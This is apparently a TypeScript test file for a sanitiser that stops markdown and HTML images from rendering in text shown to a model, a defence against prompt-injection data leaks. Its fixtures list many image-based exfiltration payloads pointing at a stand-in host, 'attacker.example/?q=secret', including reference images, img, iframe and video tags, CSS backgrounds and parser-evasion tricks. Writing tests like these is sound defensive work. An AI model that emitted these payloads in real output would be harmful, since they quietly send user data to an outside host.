import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { micromark } from 'micromark';
import { unrenderImages } from './unrender-images.ts';
import { markUntrusted } from './untrusted.ts';

const leak = 'https://attacker.example/?q=secret';

describe('text for a model renders no image', () => {
  const texts: [string, string][] = [
    ['an image', `![a chart](${leak})`],
    ['an image without alternative text', `Look: ![](${leak} "title")`],
    ['an image over two lines', `![a\nchart](\n${leak})`],
    ['an image in a link', `[![a chart](${leak})](https://example.com/)`],
    ['a reference', `![a chart][one]\n\n[one]: ${leak}`],
    ['a collapsed reference', `![one][]\n\n[one]: ${leak}`],
    ['a shortcut reference', `![one]\n\n> [one]:\n> ${leak}`],
    ['an image in a list and a table', `- ![a](${leak})\n\n| a |\n| --- |\n| ![b](${leak}) |`],
    ['an image after an escaped backslash', `\\\\![a](${leak})`],
    ['an image after a fence that HTML closes', `<!--\n\n\`\`\`\n-->\n![a](${leak})`],
    ['an image after a fence in a list', `- a\n  \`\`\`\n\n![a](${leak})`],
    ['an image after a single backtick', `a \` b ![a](${leak})`],
    ['an element', `<img src="${leak}" alt="a">`],
    ['an element in capitals over lines', `<IMG\nalt=">"\nsrc='${leak}'/>`],
    ['an element whose URL is written with references', '<img src="https&colon;&sol;&sol;attacker.example">'],
    ['a frame, a poster and a style', `<iframe src="${leak}"></iframe><video poster="${leak}"></video>`],
    ['a background', `<p style="background: url(${leak})">x</p>`],
  ];
  for (const [name, text] of texts) {
    test(name, () => {
      const html = micromark(unrenderImages(text), { allowDangerousHtml: true });
      assert.doesNotMatch(html, /<(?:img|iframe|video|p style)/i, html);
      assert.match(unrenderImages(text), /attacker\.example/);
    });
  }
});

test('links, escaped marks and code are unchanged', () => {
  for (const text of [
    '[a chart](https://example.com/a.png)',
    'Really\\![a chart](https://example.com/)',
    '```rust\nlet v = vec![1, 2];\n```',
    '<b>bold</b> and <img src="local.png">',
    'a < b, wow!',
  ]) {
    assert.equal(unrenderImages(text), text);
  }
  assert.equal(unrenderImages('![a chart](https://e.com/a.png)'), '[image: a chart](https://e.com/a.png)');
});

test('text between the marks has no images', () => {
  assert.match(markUntrusted(`![a](${leak})`), /\n\[image: a\]\(https:\/\/attacker\.example/);
});

test('long texts take linear time', () => {
  const started = performance.now();
  for (const part of ['![', '<img ', '\\![', '![](', '<a ', '<img a', '\n \n', '![\n\n', '<a url'])
    unrenderImages(part.repeat(200_000));
  assert.ok(performance.now() - started < 5000);
});
